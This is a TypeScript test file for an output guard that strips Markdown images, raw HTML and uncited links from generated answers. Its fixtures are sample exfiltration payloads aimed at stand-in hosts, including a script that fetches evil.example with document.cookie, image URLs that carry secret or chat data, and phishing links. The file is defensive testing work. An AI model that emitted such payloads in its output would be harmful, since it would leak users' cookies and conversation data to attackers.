/** The output guard (server/pipeline/output-guard.ts): no image, no HTML, no link a source does not hold. */
import { describe, expect, it } from "vitest";
import { allowedUrls, guardOutput } from "../../../server/pipeline/output-guard";

describe("guardOutput", () => {
  const allowed = allowedUrls(["See https://intranet.example.com/policy for the full text."], [{ url: "https://news.example.org/a" }]);

  it("removes Markdown images", () => {
    const result = guardOutput("The museum opens at 9:30 [Source 1]. ![x](https://evil.example/p.png?d=secret)", allowed);
    expect(result.answer).toBe("The museum opens at 9:30 [Source 1].");
    expect(result.removed).toEqual(["markdown_image"]);
  });

  it("removes raw HTML", () => {
    const result = guardOutput('Opens at 9:30 <img src=x onerror="fetch(1)"><script>alert(1)</script> [Source 1].', allowed);
    expect(result.answer).not.toMatch(/<|script|onerror/);
    expect(result.removed).toContain("html");
  });

  it("removes a script element with its body, and an image tag whose URL carries data", () => {
    const result = guardOutput(
      "Opens at 9:30 [Source 1].<script>fetch('https://evil.example/c?'+document.cookie)</script> <img src=\"https://evil.example/p?d=chat\">",
      allowed,
    );
    expect(result.answer).toBe("Opens at 9:30 [Source 1].");
    expect(result.removed).toEqual(["html"]);
  });

  it("keeps a bare tag named as a topic, as inline code, and flags nothing", () => {
    expect(guardOutput("A <script> tag embeds JavaScript; a <div> groups blocks [Source 1].", allowed)).toEqual({
      answer: "A `<script>` tag embeds JavaScript; a `<div>` groups blocks [Source 1].",
      removed: [],
    });
    expect(guardOutput("Use `<div>` for blocks.", allowed).answer).toBe("Use `<div>` for blocks.");
  });

  it("keeps links a cited passage or web citation holds, drops others (keeping their words)", () => {
    const result = guardOutput(
      "Read [the policy](https://intranet.example.com/policy) and [this](https://news.example.org/a), not [login](https://phish.example/x?t=1) or https://phish.example/y.",
      allowed,
    );
    expect(result.answer).toContain("(https://intranet.example.com/policy)");
    expect(result.answer).toContain("(https://news.example.org/a)");
    expect(result.answer).not.toContain("phish.example");
    expect(result.answer).toContain("login");
    expect(result.removed).toEqual(["link"]);
  });

  it("leaves a clean answer untouched", () => {
    const answer = "Rent is 42,000 NOK a month [Source 2].";
    expect(guardOutput(answer, allowed)).toEqual({ answer, removed: [] });
  });
});
